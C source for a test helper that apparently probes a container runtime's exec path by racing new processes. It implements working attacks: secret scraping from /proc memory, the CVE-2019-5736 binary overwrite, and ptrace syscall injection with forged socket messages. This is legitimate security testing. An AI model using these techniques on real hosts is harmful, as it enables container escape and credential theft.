/* A container process racing every process that appears in its PID
 * namespace (test_exec_sync.py): the exec'd commands of ExecSync before
 * their execve, and what they run.
 *
 * It follows the namespace's last pid (/proc/sys/kernel/ns_last_pid) and
 * handles each new pid at once, in one of two modes:
 *
 *  - `read SECRET-REVERSED` (a container with CAP_SYS_PTRACE): reads
 *    /proc/PID/exe, environ and cmdline, seizes it (PTRACE_SEIZE, then
 *    interrupts and detaches it) and reads every readable region of
 *    /proc/PID/mem, looking for the secret (given reversed, so that no
 *    process holds it but those that had it already). One line per pid:
 *      probe PID exe=EXE environ=N mem=N seized=0|1 secret=WHERE
 *    (WHERE "-" when not found);
 *  - `write`: the CVE-2019-5736 sequence on every process whose
 *    executable is a memfd: /proc/PID/exe opened with O_PATH while it runs
 *    (retried while the kernel refuses), then, once the process is gone,
 *    reopened for writing through /proc/self/fd/N (retried while ETXTBSY)
 *    and written. One line per
 *    such pid: opened EXE open=ERRNO-NAME write=ERRNO-NAME ("ok" when it
 *    worked).
 *
 *  - `hijack` and `forge PID` (a container with CAP_SYS_PTRACE): seize
 *    and stop each new process; `hijack` injects sethostname when it
 *    still holds CAP_SYS_ADMIN, `forge` a pid message naming PID on the
 *    first socket of a command before its execve (see hijack()).
 *  - `hold` (no capability needed): seizes the first new process once it
 *    has exec'd a program of the container (its own uid, dumpable again)
 *    and never waits for it, so that once it ends its zombie is the
 *    racer's to reap, not its parent's, until the racer ends. One line:
 *      held PID
 *  - `stall` (a container with CAP_SYS_PTRACE): seizes each new process
 *    still before its execve (running kinglet-enter's memfd) and stops it
 *    there for good: it never lets go nor waits, so that a command killed
 *    there stays its zombie, and the racer's to reap, until the racer
 *    ends. One line per pid found still before its execve once stopped:
 *      stalled PID
 *
 * It writes DIR/ready when it runs, appends to DIR/log, and stops when
 * DIR/stop appears. Built static against musl. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static char secret[256];
static size_t secret_len;
static char buf[1 << 20];

static ssize_t read_all(const char *path, char *b, size_t size)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    size_t n = 0;
    while (n < size) {
        ssize_t r = read(fd, b + n, size - n);
        if (r <= 0)
            break;
        n += (size_t)r;
    }
    close(fd);
    return (ssize_t)n;
}

static int has_secret(const char *b, size_t n) { return memmem(b, n, secret, secret_len) != NULL; }

/* Bytes of /proc/PID/mem read; *found when the secret is in them. */
static long scan_mem(int pid, int *found)
{
    char path[64];
    static char maps[1 << 16];
    snprintf(path, sizeof(path), "/proc/%d/maps", pid);
    ssize_t n = read_all(path, maps, sizeof(maps) - 1);
    if (n <= 0)
        return n;
    maps[n] = '\0';
    snprintf(path, sizeof(path), "/proc/%d/mem", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -errno;
    long total = 0;
    for (char *line = maps; line && *line;) {
        char *next = strchr(line, '\n');
        if (next)
            *next++ = '\0';
        unsigned long start, end;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &start, &end, perms) == 3 && perms[0] == 'r')
            for (unsigned long a = start; a < end && total < (256L << 20);) {
                size_t want = end - a < sizeof(buf) ? end - a : sizeof(buf);
                ssize_t r = pread(fd, buf, want, (off_t)a);
                if (r <= 0)
                    break;
                total += r;
                /* the secret may straddle two reads: keep an overlap */
                if (has_secret(buf, (size_t)r))
                    *found = 1;
                a += (unsigned long)r > secret_len ? (unsigned long)r - secret_len
                                                   : (unsigned long)r;
                if ((size_t)r < want)
                    break;
            }
        line = next;
    }
    close(fd);
    return total;
}

static void probe(FILE *log, int pid)
{
    char path[64], exe[256] = "?";
    const char *where = "-";
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    ssize_t n = readlink(path, exe, sizeof(exe) - 1);
    exe[n > 0 ? n : 0] = '\0';
    for (char *c = exe; *c; c++)
        if (*c == ' ')
            *c = '_'; /* "/memfd:x (deleted)" */
    snprintf(path, sizeof(path), "/proc/%d/environ", pid);
    ssize_t env = read_all(path, buf, sizeof(buf));
    if (env > 0 && has_secret(buf, (size_t)env))
        where = "environ";
    snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
    ssize_t cmd = read_all(path, buf, sizeof(buf));
    if (cmd > 0 && has_secret(buf, (size_t)cmd))
        where = "cmdline";
    int seized = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
    int found = 0;
    long mem = scan_mem(pid, &found);
    if (found)
        where = "mem";
    if (seized) {
        /* stop it to detach it (a seized process that runs cannot be) */
        if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
            int st;
            if (waitpid(pid, &st, __WALL) == pid && !WIFEXITED(st) && !WIFSIGNALED(st))
                ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    }
    fprintf(log, "probe %d exe=%s environ=%ld mem=%ld seized=%d secret=%s\n", pid, exe, (long)env,
            mem, seized, where);
    fflush(log);
}

/* CapEff of pid, from /proc/PID/status (0 when unreadable). */
static unsigned long long cap_eff(int pid)
{
    char path[64], st[4096];
    snprintf(path, sizeof(path), "/proc/%d/status", pid);
    ssize_t n = read_all(path, st, sizeof(st) - 1);
    if (n <= 0)
        return 0;
    st[n] = '\0';
    char *c = strstr(st, "CapEff:");
    return c ? strtoull(c + 7, NULL, 16) : 0;
}

/* The Seccomp: mode of pid (-1 when unreadable). */
static int seccomp_mode(int pid)
{
    char path[64], st[4096];
    snprintf(path, sizeof(path), "/proc/%d/status", pid);
    ssize_t n = read_all(path, st, sizeof(st) - 1);
    if (n <= 0)
        return -1;
    st[n] = '\0';
    char *c = strstr(st, "Seccomp:");
    return c ? atoi(c + 8) : -1;
}

/* `hijack` mode: seize and stop each new process; when it still holds
 * CAP_SYS_ADMIN (which the container lacks), make it run
 * sethostname("hijacked") (a syscall injected at its instruction
 * pointer), then put it back as it was. One line per pid:
 *   hijack PID seized=0|1 capeff=HEX injected=RESULT exe=EXE seccomp=MODE
 * (EXE as seen while it was stopped: a memfd before its execve) */
static int forge_pid; /* `forge PID` mode */

/* The first socket among pid's fds above stdio (-1: none). */
static int socket_fd(int pid)
{
    for (int fd = 3; fd < 64; fd++) {
        char path[64], l[64];
        snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
        ssize_t n = readlink(path, l, sizeof(l) - 1);
        if (n > 7 && strncmp(l, "socket:", 7) == 0)
            return fd;
    }
    return -1;
}

static void hijack(FILE *log, int pid)
{
    long injected = 1; /* not tried */
    char exe[256] = "?";
    int seized = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
    unsigned long long caps = 0;
    int mode = -1;
    if (seized && ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
        int st;
        if (waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st)) {
            caps = cap_eff(pid);
            mode = seccomp_mode(pid);
            char path[64];
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            ssize_t n = readlink(path, exe, sizeof(exe) - 1);
            exe[n > 0 ? n : 0] = '\0';
            for (char *c = exe; *c; c++)
                if (*c == ' ')
                    *c = '_';
            struct user_regs_struct regs, r;
            int sock = forge_pid && strncmp(exe, "/memfd:", 7) == 0 ? socket_fd(pid) : -1;
            if (sock >= 0 && ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0) {
                /* sendto(sock, {6 (the pid message), forge_pid}, 8, MSG_NOSIGNAL) */
                r = regs;
                unsigned long text = regs.rip, data = (regs.rsp - 512) & ~15UL;
                long old_text = ptrace(PTRACE_PEEKTEXT, pid, text, 0);
                long old_data = ptrace(PTRACE_PEEKDATA, pid, data, 0);
                long msg = 6L | ((long)forge_pid << 32);
                ptrace(PTRACE_POKEDATA, pid, data, msg);
                ptrace(PTRACE_POKETEXT, pid, text, (old_text & ~0xffffL) | 0x050f);
                r.rax = SYS_sendto;
                r.orig_rax = -1;
                r.rdi = (unsigned long)sock;
                r.rsi = data;
                r.rdx = 8;
                r.r10 = MSG_NOSIGNAL;
                r.r8 = 0;
                r.r9 = 0;
                ptrace(PTRACE_SETREGS, pid, 0, &r);
                if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid &&
                    WIFSTOPPED(st) && ptrace(PTRACE_GETREGS, pid, 0, &r) == 0)
                    injected = (long)r.rax;
                ptrace(PTRACE_POKETEXT, pid, text, old_text);
                ptrace(PTRACE_POKEDATA, pid, data, old_data);
                ptrace(PTRACE_SETREGS, pid, 0, &regs);
            } else if (!forge_pid && (caps >> 21) & 1 &&
                       ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0) {
                r = regs;
                unsigned long text = regs.rip, data = (regs.rsp - 512) & ~15UL;
                long old_text = ptrace(PTRACE_PEEKTEXT, pid, text, 0);
                long old_data = ptrace(PTRACE_PEEKDATA, pid, data, 0);
                long name;
                memcpy(&name, "hijacked", 8);
                ptrace(PTRACE_POKEDATA, pid, data, name);
                ptrace(PTRACE_POKETEXT, pid, text, (old_text & ~0xffffL) | 0x050f); /* syscall */
                r.rax = SYS_sethostname;
                r.orig_rax = -1;
                r.rdi = data;
                r.rsi = 8;
                ptrace(PTRACE_SETREGS, pid, 0, &r);
                if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid &&
                    WIFSTOPPED(st) && ptrace(PTRACE_GETREGS, pid, 0, &r) == 0)
                    injected = (long)r.rax;
                ptrace(PTRACE_POKETEXT, pid, text, old_text);
                ptrace(PTRACE_POKEDATA, pid, data, old_data);
                ptrace(PTRACE_SETREGS, pid, 0, &regs);
            }
            ptrace(PTRACE_DETACH, pid, 0, 0);
        }
    }
    fprintf(log, "hijack %d seized=%d capeff=%llx injected=%ld exe=%s seccomp=%d\n", pid, seized,
            caps, injected, exe, mode);
    fflush(log);
}

/* `hold` mode: see the top. Returns 1 once it holds pid. */
static int hold(FILE *log, int pid)
{
    char path[64], exe[256];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    while (kill(pid, 0) == 0) {
        ssize_t n = readlink(path, exe, sizeof(exe) - 1);
        if (n <= 0 || (exe[n] = '\0', strncmp(exe, "/memfd:", 7) == 0))
            continue; /* not yet exec'd: not ours to trace */
        if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
            fprintf(log, "held %d\n", pid);
            fflush(log);
            return 1;
        }
    }
    return 0;
}

/* `stall` mode: see the top. */
static void stall(FILE *log, int pid)
{
    char path[64], exe[256];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    ssize_t n = readlink(path, exe, sizeof(exe) - 1);
    if (n <= 0 || (exe[n] = '\0', strncmp(exe, "/memfd:", 7) != 0))
        return; /* exec'd already, or gone */
    int st;
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0 || ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 ||
        waitpid(pid, &st, __WALL) != pid || !WIFSTOPPED(st))
        return;
    n = readlink(path, exe, sizeof(exe) - 1);
    if (n > 0 && (exe[n] = '\0', strncmp(exe, "/memfd:", 7) == 0)) {
        fprintf(log, "stalled %d\n", pid);
        fflush(log);
    }
}

static const char *errname(int ok, int e)
{
    return ok             ? "ok"
           : e == EPERM   ? "EPERM"
           : e == EROFS   ? "EROFS"
           : e == ETXTBSY ? "ETXTBSY"
                          : strerror(e);
}

static void attack(FILE *log, int pid)
{
    char path[64], exe[256];
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    int fd = -1;
    for (;;) {
        /* the pid stays until its parent reaps it; exe goes at its exit */
        if (kill(pid, 0) < 0)
            return;
        fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0)
            continue;
        ssize_t n = readlink(path, exe, sizeof(exe) - 1);
        exe[n > 0 ? n : 0] = '\0';
        if (strncmp(exe, "/memfd:", 7) == 0)
            break;
        close(fd); /* not (yet) a memfd: the command before it runs one */
        fd = -1;
    }
    while (kill(pid, 0) == 0) {
        char st[64], buf2[512];
        snprintf(st, sizeof(st), "/proc/%d/stat", pid);
        ssize_t n = read_all(st, buf2, sizeof(buf2) - 1);
        buf2[n > 0 ? n : 0] = '\0';
        char *r = strrchr(buf2, ')');
        if (n <= 0 || (r && r[2] == 'Z'))
            break; /* ended: a zombie runs nothing */
    }
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    /* busy while its last user lets go of it: retried, as the exploit does */
    int w, tries = 0;
    while ((w = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && ++tries < 100000)
        ;
    int oe = errno, we = 0;
    ssize_t wn = -1;
    if (w >= 0) {
        wn = write(w, "PWNED!", 6);
        we = errno;
        close(w);
    }
    for (char *c = exe; *c; c++)
        if (*c == ' ')
            *c = '_';
    fprintf(log, "opened %s open=%s write=%s\n", exe, errname(w >= 0, oe),
            w < 0 ? "-" : errname(wn == 6, we));
    fflush(log);
    close(fd);
}

int main(int argc, char **argv)
{
    int write_mode = argc == 3 && strcmp(argv[2], "write") == 0;
    int hijack_mode = argc == 3 && strcmp(argv[2], "hijack") == 0;
    int hold_mode = argc == 3 && strcmp(argv[2], "hold") == 0, held = 0;
    int stall_mode = argc == 3 && strcmp(argv[2], "stall") == 0;
    if (argc == 4 && strcmp(argv[2], "forge") == 0) {
        hijack_mode = 1;
        forge_pid = atoi(argv[3]);
    }
    if (hijack_mode || hold_mode || stall_mode)
        write_mode = 0;
    else if (!write_mode && !(argc == 4 && strcmp(argv[2], "read") == 0))
        return 2;
    if (!write_mode && !hijack_mode && !hold_mode && !stall_mode) {
        secret_len = strlen(argv[3]);
        if (secret_len == 0 || secret_len >= sizeof(secret))
            return 2;
        for (size_t i = 0; i < secret_len; i++)
            secret[i] = argv[3][secret_len - 1 - i];
        memset(argv[3], 'x', secret_len);
    }
    char path[512];
    snprintf(path, sizeof(path), "%s/log", argv[1]);
    FILE *log = fopen(path, "a");
    if (!log)
        return 1;
    char stop[512];
    snprintf(stop, sizeof(stop), "%s/stop", argv[1]);
    int last = getpid();
    snprintf(path, sizeof(path), "%s/ready", argv[1]);
    close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
    for (unsigned long spin = 0;; spin++) {
        char v[32];
        ssize_t n = read_all("/proc/sys/kernel/ns_last_pid", v, sizeof(v) - 1);
        if (n > 0) {
            v[n] = '\0';
            int now = atoi(v);
            for (int p = last + 1; p <= now; p++)
                if (p != getpid()) {
                    if (hold_mode) {
                        if (!held)
                            held = hold(log, p);
                    } else if (stall_mode)
                        stall(log, p);
                    else if (hijack_mode)
                        hijack(log, p);
                    else if (write_mode)
                        attack(log, p);
                    else
                        probe(log, p);
                }
            if (now > last)
                last = now;
        }
        /* reap what we traced and that ended, whoever's child it is (but
         * what we hold or stall) */
        while (!hold_mode && !stall_mode && waitpid(-1, NULL, __WALL | WNOHANG) > 0)
            ;
        if (spin % 1024 == 0 && access(stop, F_OK) == 0)
            return 0;
    }
}
